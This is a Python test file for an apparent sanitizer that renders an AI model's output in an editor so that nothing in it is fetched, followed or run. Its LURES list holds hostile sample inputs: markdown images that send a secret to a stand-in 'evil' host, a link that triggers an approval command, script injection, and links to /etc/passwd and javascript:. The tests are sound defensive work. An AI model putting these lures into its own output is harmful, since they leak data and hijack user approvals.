"""TX8: what a model writes is shown so that no viewer fetches, follows or runs anything of it."""

from __future__ import annotations

import random
import re

import pytest

from codex_lsp.lsp.person.harmless import Harmless, harmless

LURES = [
    "![x](http://evil/?d=secret)",
    "![x][y]",
    "[y]: http://evil/?d=secret",
    "[click](command:codex.approval.respond)",
    "[click](<command:x>)",
    "<img src=http://evil/>",
    "<http://evil/?d=1>",
    "http://evil/?d=secret",
    "www.evil.example/?d=1",
    "file:///etc/passwd",
    "</details><script>fetch('x')</script>",
    "```mermaid",
    "    ```mermaid",
    "- ```mermaid",
    "> ```",
    "~~~mermaid",
    "````",
    "```",
    "`",
    "``",
    "\\`",
    "\\",
    "[a\\](http://evil/)",
    "code `[a](http://x)` and",
    "click\njavascript:alert(1)",
    "mailto:a@b",
]
_CODE = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)")

_LIVE = re.compile(
    r"<[a-zA-Z/!?]|(?<!\\)\][(\[:]|https?:|(?<!\w)www\.|command:|javascript:|file:|mailto:"
)


def live(shown: str) -> list[str]:
    """What a viewer that knows CommonMark would make more than text of."""
    found = []
    fence = ""
    for line in shown.split("\n"):
        mark = re.fullmatch(r" {0,3}(`{3,}(?=[^`]*$)|~{3,})(.*)", line)
        if fence:
            if mark and mark[1].startswith(fence) and not mark[2].strip():
                fence = ""
            continue
        if mark:
            fence = mark[1]
            found += ["drawn"] if re.match(r"\s*mermaid\b", mark[2]) else []
            continue
        plain = _CODE.sub("code", line)
        found += re.findall(
            r"<[a-zA-Z/!?]|(?<!\\)\][(\[:]|https?:|(?<!\w)www\.|command:|javascript:|file:", plain
        )
        found += ["open code"] if "`" in plain else []
    return found


@pytest.mark.parametrize("lure", LURES)
def test_nothing_in_it_is_live(lure: str) -> None:
    assert live(harmless(lure)) == []
    assert live(harmless(f"See {lure} there.\nAnd `code`.")) == []


def test_any_mixture_in_any_pieces_is_shown_alike_and_is_harmless() -> None:
    chance = random.Random(8)
    for _ in range(2_000):
        joint = ("", " ", "\n")
        text = "".join(chance.choice(LURES) + chance.choice(joint) for _ in range(6))
        assert live(harmless(text)) == [], text
        stream, shown, at = Harmless(), "", 0
        while at < len(text):
            step = chance.randrange(1, 9)
            shown += stream.take(text[at : at + step])
            at += step
        shown += stream.rest()
        assert live(shown) == [], text


def test_prose_and_code_stay_as_they_are() -> None:
    text = (
        "# Why\n\nThe sum is `a[0](b)` and **not** `<T>`; see src/a.py:12.\n\n"
        "```python\nx: list[int] = f(a)[0]  # <b> http://x\n```\n\n- one\n- two\n"
    )
    assert harmless(text) == text


def test_words_are_shown_before_their_line_is_whole() -> None:
    stream = Harmless()
    assert stream.take("The answer is ") == "The answer is "
    assert stream.take("fortytwo") == ""
    assert stream.take(" and") == "fortytwo "
    assert stream.rest() == "and"
